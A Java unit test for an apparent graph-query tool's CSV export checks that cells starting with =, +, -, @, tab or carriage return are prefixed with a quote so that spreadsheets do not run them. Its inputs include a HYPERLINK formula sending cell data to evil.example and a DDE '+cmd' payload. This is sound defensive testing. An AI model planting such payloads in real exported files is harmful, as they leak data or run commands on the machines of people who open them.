package org.influencegraph.query;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.influencegraph.graph.QueryResult;
import org.junit.jupiter.api.Test;

/** CSV answers open in a spreadsheet as text: no cell runs as a formula (OWASP's CSV injection advice). */
class CsvCellsTest {

    @Test
    void cells_a_spreadsheet_would_run_start_with_a_quote_and_numbers_stay_numbers() {
        List<Object> values = List.of(
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "+cmd|'/C calc'!A0",
                "-2+3",
                "@SUM(A1)",
                "\tTab",
                "\rReturn",
                "Alexander Lukashenko",
                "",
                -5L,
                2.5);
        List<String> columns = new java.util.ArrayList<>();
        Map<String, Object> row = new LinkedHashMap<>();
        for (int i = 0; i < values.size(); i++) {
            columns.add("c" + i);
            row.put("c" + i, values.get(i));
        }

        String csv = Formats.csv(new QueryResult(columns, List.of(row), false));

        assertThat(csv)
                .isEqualTo("c0,c1,c2,c3,c4,c5,c6,c7,c8,c9\n"
                        + "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'+cmd|'/C calc'!A0,'-2+3,'@SUM(A1),"
                        + "'\tTab,\"'\rReturn\",Alexander Lukashenko,,-5,2.5\n");
    }
}
